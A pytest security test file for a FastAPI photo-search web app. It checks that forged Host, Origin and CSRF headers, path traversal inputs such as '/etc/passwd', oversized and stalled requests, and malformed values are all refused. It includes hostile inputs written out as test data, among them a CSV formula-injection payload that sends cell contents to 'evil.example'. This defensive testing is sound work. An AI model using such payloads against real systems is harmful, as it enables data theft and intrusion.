"""The web apps are safe to expose: named attacks, a schema fuzz of both apps, headers, limits.

Each attack is sent the way an attacker would send it (foreign Host, no or a forged CSRF token,
another Origin, paths out of the collection, absurd numbers, wrong types) and must get a 4xx
with a clear message, change nothing and touch no file outside the served folders.
"""

from __future__ import annotations

import builtins
import io
import logging
import os
import socket
import time
from collections.abc import Iterator
from contextlib import closing, suppress
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from inquire.collection import SearchRequest, create_collection, open_collection
from inquire.collection.verify import Verification, escape_formulas, write_table
from inquire.testing.collection_encoder import make_photo_folder
from inquire.testing.web_client import page_client
from inquire.web.security import RequestGuard, guard_of, public_message, split_host
from inquire.web.verify import make_app

ORIGIN = "http://127.0.0.1"


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A collection ``walk`` of 30 photos, plus an image and a folder outside it that its
    images folder links to (those links must not become part of the collection)."""
    base = tmp_path_factory.mktemp("sec")
    photos = base / "photos"
    make_photo_folder(photos, n=30, seed=5)
    outside = base / "outside"
    make_photo_folder(outside, n=2, seed=9)
    out_img = next(outside.rglob("*.jpg"))
    (photos / "link_out.jpg").symlink_to(out_img)
    (photos / "dir_out").symlink_to(outside, target_is_directory=True)
    inside = sorted(photos.glob("IMG_*.jpg"))[0]
    (photos / "link_in.jpg").symlink_to(inside)
    os.mkfifo(photos / "pipe.jpg")  # reading it would block the scan forever
    coll, _ = create_collection("walk", photos, "toy:colour", root=base / "cols")
    paths = set(coll.images()["path"])
    ids = [int(i) for i in coll.images()["image_id"]]
    coll.close()
    return {
        "base": base,
        "cols": base / "cols",
        "photos": photos,
        "outside": outside,
        "out_img": out_img,
        "paths": paths,
        "ids": ids,
    }


@pytest.fixture
def app(world: dict[str, Any]) -> Any:
    return make_app(world["cols"])


@pytest.fixture
def client(app: Any) -> TestClient:
    return page_client(app)


def _searches(client: TestClient) -> list[str]:
    return [s["search_id"] for s in client.get("/verify/api/c/walk/searches").json()]


def _new_search(client: TestClient, **body: Any) -> str:
    r = client.post("/verify/api/c/walk/searches", json={"text": "red", "who": "ana", **body})
    assert r.status_code == 200, r.text
    return str(r.json()["search_id"])


@pytest.fixture
def outside_access(world: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every open / stat / existence test of a path outside the collection's photos and
    database, recorded (Python-level file access: open, os.stat, os.lstat, Path.*)."""
    seen: list[str] = []
    allowed = [str(world["photos"]), str(world["cols"])]
    real_open, real_stat, real_lstat = builtins.open, os.stat, os.lstat

    def note(p: Any) -> None:
        if isinstance(p, int):
            return
        s = os.fspath(p) if isinstance(p, (str, bytes, os.PathLike)) else str(p)
        s = s.decode() if isinstance(s, bytes) else s
        a = os.path.abspath(s)
        ancestor = any(x.startswith(a + "/") for x in allowed)  # realpath walks down to them
        if str(world["base"]) in a and not ancestor and not any(a.startswith(x) for x in allowed):
            seen.append(a)
        if "etc/passwd" in a or a.endswith("/42") or "secret" in a:
            seen.append(a)

    def spy_open(p: Any, *a: Any, **k: Any) -> Any:
        note(p)
        return real_open(p, *a, **k)

    def spy_stat(p: Any, *a: Any, **k: Any) -> Any:
        note(p)
        return real_stat(p, *a, **k)

    def spy_lstat(p: Any, *a: Any, **k: Any) -> Any:
        note(p)
        return real_lstat(p, *a, **k)

    monkeypatch.setattr(builtins, "open", spy_open)
    monkeypatch.setattr(os, "stat", spy_stat)
    monkeypatch.setattr(os, "lstat", spy_lstat)
    return seen


# --- ingest -------------------------------------------------------------------------------
def test_ingest_keeps_links_inside_and_skips_links_out_pipes_and_linked_folders(world) -> None:
    paths = world["paths"]
    assert "link_in.jpg" in paths  # a link that stays inside the folder is a photo
    assert "link_out.jpg" not in paths and "pipe.jpg" not in paths
    assert not any(p.startswith("dir_out/") for p in paths)
    assert len(paths) == 31  # 30 photos + the inside link
    with closing(open_collection("walk", world["cols"])) as coll:
        stored = coll.conn.execute("SELECT path FROM images").fetchall()
    assert {r[0] for r in stored} == paths  # not even metadata rows of the outside files


# --- Host, Origin, CSRF ---------------------------------------------------------------------
@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "evil.example:8000",
        "127.0.0.1.evil.example",
        "localhost.evil.example",
        "10.0.0.5",
        "",
        "127.0.0.1:80:80",
        "user@127.0.0.1",
        "[::1",
    ],
)
def test_a_foreign_host_is_refused_on_every_route(app: Any, world, host: str) -> None:
    """DNS rebinding: a page on another site whose name now points at this machine."""
    raw = TestClient(app, base_url="http://127.0.0.1")
    sid = _new_search(page_client(app))
    image = world["ids"][0]
    for method, url in [
        ("GET", "/verify"),
        ("GET", "/verify/assets/verify.js"),
        ("GET", "/verify/api/collections"),
        ("GET", "/verify/api/c/walk/searches"),
        ("GET", f"/verify/api/c/walk/searches/{sid}/results"),
        ("GET", f"/verify/api/c/walk/searches/{sid}/export.csv"),
        ("GET", f"/verify/api/c/walk/images/{image}"),
        ("GET", "/verify/api/openapi.json"),
        ("GET", "/nowhere"),
        ("POST", "/verify/api/c/walk/searches"),
    ]:
        r = raw.request(method, url, headers={"host": host, "origin": f"http://{host}"})
        assert r.status_code == 400, (host, url, r.status_code)
        assert "does not name this server" in r.json()["detail"]
        assert b"\xff\xd8" not in r.content and "walk" not in r.text


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.1:8000", "localhost:8000", "[::1]:8000"])
def test_loopback_names_are_accepted(app: Any, host: str) -> None:
    r = TestClient(app, base_url="http://127.0.0.1").get(
        "/verify/api/collections", headers={"host": host}
    )
    assert r.status_code == 200 and r.json()[0]["name"] == "walk"


def test_bound_and_allowed_hosts(world) -> None:
    app = make_app(world["cols"], host="192.168.7.9", allowed_hosts=["photos.example.org"])
    raw = TestClient(app, base_url="http://127.0.0.1")
    for host, status in [
        ("192.168.7.9:8000", 200),
        ("photos.example.org", 200),
        ("PHOTOS.example.org:443", 200),
        ("evil.example.org", 400),
    ]:
        assert raw.get("/verify/api/collections", headers={"host": host}).status_code == status
    with pytest.raises(Exception, match="not a host name"):
        RequestGuard(allowed_hosts=["http://x/y"])
    assert split_host("[::1]:80") == ("::1", "80") and split_host("a:b") is None


def test_state_changes_need_the_page_origin_and_its_csrf_token(app: Any, world) -> None:
    good = page_client(app)
    sid = _new_search(good)
    token = guard_of(app).new_token()
    other_server = guard_of(make_app(world["cols"])).new_token()
    nonce = token.split(".")[0]
    forged = f"{nonce}.{'0' * 64}"
    raw = TestClient(app, base_url="http://127.0.0.1")
    search = ("POST", "/verify/api/c/walk/searches", {"text": "green", "who": "eve"})
    mark = (
        "PUT",
        f"/verify/api/c/walk/searches/{sid}/marks",
        {
            "image_id": good.get(f"/verify/api/c/walk/searches/{sid}/results").json()["results"][0][
                "image_id"
            ],
            "who": "eve",
            "mark": "relevant",
        },
    )
    more = ("POST", f"/verify/api/c/walk/searches/{sid}/results", {"offset": 24, "limit": 5})
    cases = [
        ({}, "Origin None"),  # no Origin, no token
        ({"origin": ORIGIN}, "X-CSRF-Token"),  # no token
        ({"origin": ORIGIN, "x-csrf-token": forged}, "X-CSRF-Token"),
        ({"origin": ORIGIN, "x-csrf-token": other_server}, "X-CSRF-Token"),
        ({"origin": ORIGIN, "x-csrf-token": "x" * 20}, "X-CSRF-Token"),
        ({"origin": "http://evil.example", "x-csrf-token": token}, "not this page's origin"),
        ({"origin": "null", "x-csrf-token": token}, "not this page's origin"),
        ({"origin": "http://127.0.0.1:9999", "x-csrf-token": token}, "not this page's origin"),
        ({"origin": "https://127.0.0.1", "x-csrf-token": token}, "not this page's origin"),
    ]
    for method, url, body in (search, mark, more):
        for headers, why in cases:
            r = raw.request(method, url, json=body, headers=headers)
            assert r.status_code == 403, (url, headers, r.text)
            assert why in r.json()["detail"]
    # Nothing changed: one search, no marks, the first page only.
    assert _searches(good) == [sid]
    with closing(Verification(open_collection("walk", world["cols"]))) as v:
        assert v.marks(sid).empty
    assert good.get(f"/verify/api/c/walk/searches/{sid}/results").json()["ranked"] == 24
    # The page's own token and Origin work, and the token is in the page's <head>.
    page = raw.get("/verify").text
    head_token = page.split('<meta name="csrf-token" content="')[1].split('"')[0]
    assert guard_of(app).token_ok(head_token) and head_token not in (token,)
    ok = raw.post(
        "/verify/api/c/walk/searches",
        json={"text": "green", "who": "ana"},
        headers={"origin": ORIGIN, "x-csrf-token": head_token},
    )
    assert ok.status_code == 200, ok.text


def test_a_router_in_a_bare_app_still_checks_host_and_token(world) -> None:
    from fastapi import FastAPI

    from inquire.web.verify import make_router

    bare = FastAPI()
    bare.include_router(make_router(world["cols"]))
    raw = TestClient(bare, base_url="http://127.0.0.1")
    assert raw.get("/verify/api/collections", headers={"host": "evil.example"}).status_code == 400
    r = raw.post("/verify/api/c/walk/searches", json={"text": "red"}, headers={"origin": ORIGIN})
    assert r.status_code == 403
    assert page_client(bare).post("/verify/api/c/walk/searches", json={"text": "red"}).is_success


def test_no_get_changes_state(client: TestClient) -> None:
    sid = _new_search(client)
    url = f"/verify/api/c/walk/searches/{sid}/results"
    for offset in (0, 24, 25, 10**6):
        assert client.get(url, params={"offset": offset, "limit": 100}).status_code == 200
    assert client.get(url).json()["ranked"] == 24  # reading never ranked more
    assert client.get("/verify/api/c/walk/searches").json()[0]["n_results"] == 24
    assert client.get(f"{url}/../marks").status_code in (404, 405)
    r = client.post(url, json={"offset": 24, "limit": 3})
    assert r.status_code == 200 and r.json()["ranked"] == 27
    assert [it["rank"] for it in r.json()["results"]] == [25, 26, 27]
    r = client.post(url, json={"offset": 100, "limit": 3})  # no skipping ahead
    assert r.status_code == 400 and "past the 27 results" in r.json()["detail"]


# --- search by example: ids and collection paths only ---------------------------------------
def test_examples_are_ids_or_collection_paths_and_nothing_else(
    client: TestClient, world, outside_access: list[str], tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "42").write_bytes(world["out_img"].read_bytes())  # a file named like an id
    rel = sorted(p for p in world["paths"] if p.startswith("IMG_"))[0]
    with closing(open_collection("walk", world["cols"])) as coll:
        rel_id = int(
            coll.conn.execute("SELECT image_id FROM images WHERE path=?", (rel,)).fetchone()[0]
        )
    by_path = _new_search(client, text="", like=[rel])
    by_id = _new_search(client, text="", like=rel_id)
    assert by_path == by_id  # the same example, saved as its id
    first = client.get(f"/verify/api/c/walk/searches/{by_id}/results").json()["results"][0]
    assert first["image_id"] == rel_id  # an example is its own best match
    before = _searches(client)
    for like in [
        str(world["out_img"]),
        "/etc/passwd",
        "../outside/IMG_0000.jpg",
        f"{rel}/../../outside/x.jpg",
        "dir_out/IMG_0001.jpg",
        "link_out.jpg",
        "C:\\secret.jpg",
        "~/secret.jpg",
        "missing.jpg",
        "./" + rel,
        "42x",
        "--5",
        "\u00b2",  # a digit to str.isdigit, not to int()
        "\uff15",
        "9" * 150,
        "9" * 400,  # longer than any name: 422
    ]:
        r = client.post("/verify/api/c/walk/searches", json={"like": [like], "who": "eve"})
        assert r.status_code in (400, 422), (like, r.text)
        detail = r.json()["detail"]
        assert str(world["base"]) not in detail and "/etc/passwd" not in detail, detail
    r = client.post("/verify/api/c/walk/searches", json={"like": "42"})  # an id, not ./42
    assert r.status_code == 400 and "not (or no longer) in collection" in r.json()["detail"]
    assert _searches(client) == before  # refused searches are not saved
    assert outside_access == []  # and nothing outside was opened, stat'ed or tested


def test_a_saved_search_with_an_outside_example_is_not_ranked_by_the_page(
    client: TestClient, world, outside_access: list[str]
) -> None:
    with closing(open_collection("walk", world["cols"])) as coll, closing(Verification(coll)) as v:
        sid = v.save_search(SearchRequest("", (str(world["out_img"]),)))
    r = client.post(f"/verify/api/c/walk/searches/{sid}/results", json={"offset": 0, "limit": 5})
    assert r.status_code == 400 and "outside the collection" in r.json()["detail"]
    assert str(world["base"]) not in r.text
    assert outside_access == []


def test_refused_searches_are_not_saved(client: TestClient) -> None:
    before = _searches(client)
    for body, status in [
        ({"text": "red", "taxa": ["Nosuchtaxon"]}, 400),  # no taxa recorded
        ({"text": "red", "bbox": "1,2"}, 400),
        ({"text": "red", "bbox": [0, 0, 500, 1]}, 400),
        ({"text": "red", "date_from": "2020-13-01"}, 400),
        ({"text": "red", "date_from": "2021-01-01", "date_to": "2020-01-01"}, 400),
        ({"text": "red", "under": ["../x"]}, 400),
        ({"text": "red", "under": ["nosuchfolder"]}, 404),
        ({"text": ""}, 400),
        ({"text": "red", "like": [10**6]}, 400),
        ({"text": "red", "extra": 1}, 422),
    ]:
        r = client.post("/verify/api/c/walk/searches", json=body)
        assert r.status_code == status, (body, r.text)
    assert _searches(client) == before


# --- out of range, wrong types ----------------------------------------------------------------
def test_out_of_range_numbers_and_wrong_types_get_a_clear_4xx(client: TestClient, world) -> None:
    sid = _new_search(client)
    image = world["ids"][0]
    base = f"/verify/api/c/walk/searches/{sid}"
    cases: list[tuple[str, str, Any, str]] = [
        ("GET", f"/verify/api/c/walk/images/{2**63}", None, "image_id"),
        ("GET", f"/verify/api/c/walk/images/{-(2**63) - 1}", None, "image_id"),
        ("GET", "/verify/api/c/walk/images/1.5", None, "image_id"),
        ("GET", f"/verify/api/c/walk/images/{10**30}", None, "image_id"),
        ("GET", f"/verify/api/c/walk/images/{image}?size={10**30}", None, "size"),
        ("GET", f"/verify/api/c/walk/images/{image}?size=2.5", None, "size"),
        ("GET", f"{base}/results?offset={10**30}", None, "offset"),
        ("GET", f"{base}/results?offset=-1", None, "offset"),
        ("GET", f"{base}/results?limit=1.5", None, "limit"),
        ("GET", f"{base}/results?limit={10**30}", None, "limit"),
        ("GET", f"{base}/summary?who={'x' * 65}", None, "who"),
        ("GET", f"{base}/trend.svg?by={'m' * 40}", None, "by"),
        ("GET", f"{base}/export.xlsx", None, "fmt"),
        ("GET", f"/verify/api/c/{'a' * 65}/searches", None, "name"),
        ("POST", f"{base}/results", {"offset": 10**30, "limit": 5}, "offset"),
        ("POST", f"{base}/results", {"offset": 1.0, "limit": 5}, "offset"),
        ("POST", f"{base}/results", {"offset": "3", "limit": 5}, "offset"),
        ("POST", f"{base}/results", {"offset": 0, "limit": [5]}, "limit"),
        ("POST", f"{base}/results", [1, 2], "body"),
        ("PUT", f"{base}/marks", {"image_id": 2**63, "mark": "relevant", "who": "a"}, "image_id"),
        ("PUT", f"{base}/marks", {"image_id": 1.0, "mark": "relevant", "who": "a"}, "image_id"),
        ("PUT", f"{base}/marks", {"image_id": True, "mark": "relevant", "who": "a"}, "image_id"),
        ("PUT", f"{base}/marks", {"image_id": "1", "mark": "relevant", "who": "a"}, "image_id"),
        ("PUT", f"{base}/marks", {"image_id": 1, "mark": ["relevant"], "who": "a"}, "mark"),
        ("PUT", f"{base}/marks", {"image_id": 1, "mark": "maybe", "who": "a"}, "mark"),
        ("PUT", f"{base}/marks", {"image_id": 1, "mark": "unsure", "who": ["a"]}, "who"),
        ("POST", "/verify/api/c/walk/searches", {"text": ["red"]}, "text"),
        ("POST", "/verify/api/c/walk/searches", {"text": "r" * 2001}, "text"),
        ("POST", "/verify/api/c/walk/searches", {"text": "red", "like": {"a": 1}}, "like"),
        ("POST", "/verify/api/c/walk/searches", {"text": "red", "like": [2**64]}, "like"),
        ("POST", "/verify/api/c/walk/searches", {"text": "red", "like": [1.5]}, "like"),
        ("POST", "/verify/api/c/walk/searches", {"text": "red", "taxa": [1]}, "taxa"),
        ("POST", "/verify/api/c/walk/searches", {"text": "red", "bbox": ["a", 1]}, "bbox"),
        ("POST", "/verify/api/c/walk/searches", {"text": "red", "who": 5}, "who"),
        ("POST", "/verify/api/c/walk/searches", {"text": "red", "like": [1] * 51}, "like"),
        ("POST", "/verify/api/c/walk/searches", {"text": "red", "taxa": ["a"] * 51}, "taxa"),
        ("POST", "/verify/api/c/walk/searches", {"text": "red", "bbox": [0.0] * 5}, "bbox"),
    ]
    for method, url, body, field in cases:
        r = client.request(method, url, json=body)
        assert 400 <= r.status_code < 500, (url, body, r.status_code, r.text)
        detail = r.json()["detail"]
        assert isinstance(detail, str) and field in detail, (url, body, detail)
    js = {"content-type": "application/json"}
    r = client.post(f"{base}/results", content=b'{"offset": NaN}', headers=js)
    assert r.status_code == 422
    r = client.post(f"{base}/results", content=b"{not json", headers=js)
    assert r.status_code == 422 and "JSON" in r.json()["detail"]


def test_errors_never_reveal_server_paths(client: TestClient, world, tmp_path: Path) -> None:
    empty = tmp_path / "empty_photos"
    empty.mkdir()
    create_collection("empty", empty, "toy:colour", root=world["cols"])
    try:
        r = client.post("/verify/api/c/empty/searches", json={"text": "red"})
        assert r.status_code == 400 and "no embedded images" in r.json()["detail"]
        assert str(tmp_path) not in r.text and "<server path>" in r.text
    finally:
        import shutil

        shutil.rmtree(world["cols"] / "empty")
    msg = public_message("x 'C:\\data\\a.jpg' and \"/srv/x y\" and '~/p' but 'rel/a.jpg'")
    assert msg == "x '<server path>' and '<server path>' and '<server path>' but 'rel/a.jpg'"
    assert public_message("use '/' separators, not \"\\\"") == "use '/' separators, not \"\\\""
    assert public_message("'/' or '/srv/a'") == "'/' or '<server path>'"


# --- headers, docs, limits ----------------------------------------------------------------------
def _main_app(tmp_path: Path, **kw: Any) -> Any:
    from inquire.web.app import create_app
    from inquire.web.config import WebConfig

    return create_app(WebConfig(thumb_cache=tmp_path / "th", **kw))


def test_both_apps_send_the_same_security_headers_and_no_cdn_docs(app: Any, tmp_path: Path) -> None:
    main = page_client(_main_app(tmp_path))
    verify = page_client(app)
    for c, urls in [
        (main, ["/", "/api/health", "/nowhere", "/images/1"]),
        (verify, ["/verify", "/verify/api/collections", "/verify/assets/verify.js", "/nowhere"]),
    ]:
        for url in urls:
            h = c.get(url).headers
            csp = h["content-security-policy"]
            assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, url
            assert "script-src 'self'" in csp and "unsafe-inline" not in csp
            assert h["x-content-type-options"] == "nosniff"
            assert h["referrer-policy"] == "same-origin"
        for docs in ("/docs", "/redoc", "/verify/docs", "/docs/oauth2-redirect"):
            r = c.get(docs)
            assert r.status_code == 404 and "cdn" not in r.text.lower()
    refused = TestClient(app).get("/verify")  # refused requests carry them too
    assert refused.status_code == 400 and refused.headers["x-content-type-options"] == "nosniff"
    page = main.get("/").text
    token = page.split('<meta name="csrf-token" content="')[1].split('"')[0]
    assert guard_of(main.app).token_ok(token)


def test_request_bodies_are_size_limited(world) -> None:
    app = make_app(world["cols"], guard=RequestGuard(max_body_bytes=1000, max_upload_bytes=5000))
    c = page_client(app)
    url = "/verify/api/c/walk/searches"
    before = _searches(c)
    big = {"text": "red", "taxa": ["x" * 100] * 20}
    r = c.post(url, json=big)  # Content-Length says too much
    assert r.status_code == 413 and "1,000 bytes" in r.json()["detail"]

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted while it arrives
        yield b'{"text": "red", "taxa": ['
        for _ in range(50):
            yield b'"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",'
        yield b'"x"]}'

    r = c.post(url, content=chunks(), headers={"content-type": "application/json"})
    assert r.status_code == 413, r.text
    r = c.post(url, content=b"x" * 3000, headers={"content-type": "multipart/form-data; b=1"})
    assert r.status_code == 415  # this route takes no upload: refused before reading
    r = c.post(url, json={"text": "red"}, headers={"content-length": "abc"})
    assert r.status_code == 400
    assert _searches(c) == before


def test_slow_headers_and_stalled_bodies_are_cut_off(world) -> None:
    from inquire.web.server import BackgroundServer, ServerLimits

    app = make_app(world["cols"], guard=RequestGuard(body_timeout_s=0.5))
    limits = ServerLimits(header_timeout_s=0.5)
    with BackgroundServer(app, limits=limits) as srv:
        host = f"127.0.0.1:{srv.port}"
        with socket.create_connection(("127.0.0.1", srv.port), timeout=120) as s:
            s.sendall(b"GET /verify/api/collections HTTP/1.1\r\nHost: ")  # and then nothing
            assert s.recv(100) == b""  # the server hung up (long before the client's 120 s)
        token = guard_of(app).new_token()
        with socket.create_connection(("127.0.0.1", srv.port), timeout=120) as s:
            s.sendall(
                (
                    f"POST /verify/api/c/walk/searches HTTP/1.1\r\nHost: {host}\r\n"
                    f"Origin: http://{host}\r\nX-CSRF-Token: {token}\r\n"
                    'Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{"te'
                ).encode()
            )
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        assert data.split()[1] == b"408" and b"stalled" in data
        # A body trickling in a byte at a time is cut off just the same.
        with socket.create_connection(("127.0.0.1", srv.port), timeout=120) as s:
            s.sendall(
                (
                    f"POST /verify/api/c/walk/searches HTTP/1.1\r\nHost: {host}\r\n"
                    f"Origin: http://{host}\r\nX-CSRF-Token: {token}\r\n"
                    "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n"
                ).encode()
            )
            s.settimeout(0.2)
            data = b""
            for _ in range(100):  # at most 20 s of trickling
                try:
                    s.sendall(b" ")
                    data += s.recv(65536)
                except TimeoutError:
                    continue
                except OSError:
                    break
                if data:
                    break
            s.settimeout(120)
            try:
                while chunk := s.recv(65536):
                    data += chunk
            except OSError:
                pass
        assert data.split()[1] == b"408", data
        # A whole request is still answered normally.
        with socket.create_connection(("127.0.0.1", srv.port), timeout=120) as s:
            s.sendall(
                f"GET /verify/api/collections HTTP/1.1\r\nHost: {host}\r\n"
                "Connection: close\r\n\r\n".encode()
            )
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        assert data.split()[1] == b"200" and b'"walk"' in data


@pytest.mark.parametrize("argv", [["serve"], ["collection", "serve"]])
def test_every_serve_command_warns_on_a_non_loopback_host(
    argv: list[str], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, tmp_path
) -> None:
    import uvicorn

    from inquire.cli import app as cli

    calls: list[dict[str, Any]] = []
    monkeypatch.setattr(uvicorn, "run", lambda app_, **kw: calls.append(kw | {"app": app_}))
    with caplog.at_level(logging.WARNING, logger="inquire.web"):
        res = CliRunner().invoke(cli, [*argv, "--host", "0.0.0.0", "--allow-host", "pics.lan"])
        assert res.exit_code == 0, res.output
        assert "no login" in caplog.text and "0.0.0.0" in caplog.text
        caplog.clear()
        res = CliRunner().invoke(cli, [*argv, "--host", "127.0.0.1"])
        assert res.exit_code == 0 and "no login" not in caplog.text
    exposed = calls[0]
    assert exposed["limit_concurrency"] > 0 and exposed["timeout_keep_alive"] > 0
    raw = TestClient(exposed["app"], base_url="http://127.0.0.1")
    url = "/verify/api/collections"
    assert raw.get(url, headers={"host": "pics.lan:8000"}).status_code == 200
    assert raw.get(url, headers={"host": "evil.example"}).status_code == 400


# --- CSV -------------------------------------------------------------------------------------
def test_formula_cells_are_escaped_in_csv_exports(client: TestClient, world, tmp_path) -> None:
    df = pd.DataFrame(
        {
            "s": ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\ry", "a=b", "", None, "'=x"],
            "n": [-1.5, 2, 3, 4, 5, 6, 7, 8, 9, 10],
        }
    )
    out = escape_formulas(df)
    got = out["s"].tolist()
    assert got[:8] + got[9:] == [
        "'=1+1",
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\ry",
        "a=b",
        "",
        "'=x",
    ]
    assert pd.isna(got[8])  # missing stays missing
    assert out["n"].tolist() == df["n"].tolist()  # numbers, negative ones too, stay numbers
    write_table(df, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", keep_default_na=False)
    assert back["s"][0] == "'=1+1" and back["n"][0] == -1.5
    # Over the web: a search text and a user name made to run in a spreadsheet.
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    sid = _new_search(client, text=evil, who="@mallory")
    first = client.get(f"/verify/api/c/walk/searches/{sid}/results").json()["results"][0]
    r = client.put(
        f"/verify/api/c/walk/searches/{sid}/marks",
        json={"image_id": first["image_id"], "mark": "relevant", "who": "-eve"},
    )
    assert r.status_code == 200
    csv = client.get(f"/verify/api/c/walk/searches/{sid}/export.csv")
    got = pd.read_csv(io.StringIO(csv.text), keep_default_na=False)
    assert got["query"][0] == "'" + evil and got["who"][0] == "'-eve"
    for line in csv.text.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), line
    parquet = client.get(f"/verify/api/c/walk/searches/{sid}/export.parquet")
    assert pd.read_parquet(io.BytesIO(parquet.content))["query"][0] == evil  # data as is


# --- schema fuzz ------------------------------------------------------------------------------
def _error_shape_ok(case: Any, r: Any) -> bool:
    """Whether an error answer has the shape of its route: ``{"error", "detail"}`` with one
    message on JSON routes, the error page on pages (the request guard's refusals, before
    any route, are JSON everywhere)."""
    from inquire.web.errors import JSON_PREFIXES

    ctype = r.headers.get("content-type") or ""
    ctype = ctype[0] if isinstance(ctype, list) else ctype
    if case.formatted_path.startswith(JSON_PREFIXES) or r.status_code in (408, 413, 415, 431):
        if not ctype.startswith("application/json"):
            return False
        body = r.json()
        return set(body) == {"error", "detail"} and body["error"] == body["detail"]
    return ctype.startswith("text/html") and 'id="error-message"' in r.text


def _fuzz(app: Any, schema_url: str, pins: dict[str, Any], examples: int) -> list[str]:
    """Send ``examples`` schema-valid and ``examples`` schema-violating requests per API
    operation (schemathesis, in process, a fixed seed), as the page would (Host, Origin and
    token); return the ones answered with a 5xx or with an error not in its route's shape.
    ``pins``: path parameters held at real values (a known collection, search or run) so the
    handlers behind them run too."""
    import schemathesis
    from hypothesis import HealthCheck, given, settings
    from hypothesis.errors import Unsatisfiable
    from schemathesis import GenerationMode

    schema = schemathesis.openapi.from_asgi(schema_url, app, headers={"host": "127.0.0.1"})
    headers = {"origin": ORIGIN, "x-csrf-token": guard_of(app).new_token()}
    failures: list[str] = []

    def checker(op: Any, mode: GenerationMode, pinned: dict[str, Any]) -> Any:
        @settings(
            max_examples=examples,
            derandomize=True,
            deadline=None,
            database=None,
            suppress_health_check=list(HealthCheck),
        )
        @given(case=op.as_strategy(generation_mode=mode, path_parameters=pinned or None))
        def run(case: Any) -> None:
            r = case.call(base_url=ORIGIN, headers=headers)
            if r.status_code >= 500 or (r.status_code >= 400 and not _error_shape_ok(case, r)):
                failures.append(
                    f"{op.label} {mode.value}: {r.status_code} {case.path_parameters} "
                    f"{case.query} {case.body!r:.200}"
                )

        return run

    for result in schema.get_all_operations():
        op = result.ok()
        names = {p.name for p in op.path_parameters}
        pinned = {k: v for k, v in pins.items() if k in names}
        for mode in GenerationMode:
            try:
                checker(op, mode, pinned)()
            except Unsatisfiable:  # nothing to vary (no parameters): nothing to break
                continue
    return failures


@pytest.mark.slow
def test_fuzz_of_the_verify_api_finds_no_server_error(app: Any, client: TestClient) -> None:
    sid = _new_search(client)
    # Names held at a real collection and search, so every handler runs behind them (the
    # names themselves are attacked by the named tests above).
    assert _fuzz(app, "/verify/api/openapi.json", {"name": "walk", "sid": sid}, 4) == []


@pytest.mark.slow
def test_fuzz_of_the_main_api_finds_no_server_error(tmp_path: Path) -> None:
    from inquire.testing.web_fixtures import build_web_fixture

    fx = build_web_fixture(tmp_path / "fx", n_images=600, n_test=1)
    app = _main_app(
        tmp_path,
        results=fx.results,
        image_roots=[fx.images],
        embeddings=fx.bench.embeddings,
        model=fx.encoder,
    )
    slug = page_client(app).get("/api/runs").json()[0]["slug"]
    assert _fuzz(app, "/api/openapi.json", {"slug": slug}, 4) == []


# --- limits as documented, one past each ------------------------------------------------------
def _upload_app(tmp_path: Path, **guard: Any) -> Any:
    """The main app with one extra route that takes an upload (a form with a file)."""
    from fastapi import APIRouter, File

    from inquire.web.app import create_app
    from inquire.web.config import WebConfig

    r = APIRouter()

    @r.post("/upload")
    def upload(f: bytes = File(...)) -> dict[str, int]:
        return {"n": len(f)}

    return create_app(WebConfig(thumb_cache=tmp_path / "th", routers=[r], **guard))


def test_multipart_bodies_are_refused_before_reading_on_routes_without_uploads(
    tmp_path: Path, world: dict[str, Any]
) -> None:
    """A 15 MiB multipart body to a route that takes no upload is 415 and never read; the
    route that takes one reads it (under the upload limit)."""
    app = _upload_app(tmp_path, max_body_bytes=1000, max_upload_bytes=20 * 2**20)
    c = page_client(app)
    read = 0

    def body() -> Iterator[bytes]:
        nonlocal read
        for _ in range(15):
            read += 2**20
            yield b"x" * 2**20

    ctype = {"content-type": "multipart/form-data; boundary=b"}
    for url in ("/api/search?q=x", "/", "/verify/api/c/walk/searches", "/nowhere"):
        read = 0
        r = c.post(url, content=body(), headers=ctype)
        assert r.status_code == 415, (url, r.status_code)
        assert "takes no upload" in r.json()["detail"]
        assert read <= 2**20, f"{read} bytes of the body were read for {url}"
    files = {"f": ("a.bin", b"y" * 5000, "application/octet-stream")}
    r = c.post("/upload", files=files)
    assert r.status_code == 200 and r.json() == {"n": 5000}
    v = page_client(make_app(world["cols"]))
    r = v.put("/verify/api/c/walk/searches/x/marks", content=b"--b--", headers=ctype)
    assert r.status_code == 415


def test_headers_over_16_kib_are_refused_and_just_under_are_not(world: dict[str, Any]) -> None:
    from inquire.web.config import DEFAULT_MAX_HEADER_BYTES
    from inquire.web.server import BackgroundServer

    app = make_app(world["cols"])
    with BackgroundServer(app) as srv:
        host = f"127.0.0.1:{srv.port}"

        def get(extra: int) -> bytes:
            head = (
                f"GET /verify/api/collections HTTP/1.1\r\nHost: {host}\r\n"
                f"X-Pad: {'a' * extra}\r\nConnection: close\r\n\r\n"
            ).encode()
            with socket.create_connection(("127.0.0.1", srv.port), timeout=30) as s:
                s.sendall(head)
                data = b""
                while chunk := s.recv(65536):
                    data += chunk
            return data.split()[1]

        assert get(DEFAULT_MAX_HEADER_BYTES - 200) == b"200"
        assert get(DEFAULT_MAX_HEADER_BYTES + 1) == b"431"
        assert get(100 * 1024) == b"431"  # the reported 100 KB header


def test_idle_sockets_of_one_client_do_not_lock_out_others(world: dict[str, Any]) -> None:
    """200 idle connections from one address (127.0.0.2): past its share they are answered
    503 and closed at once, and a client from another address is served at once."""
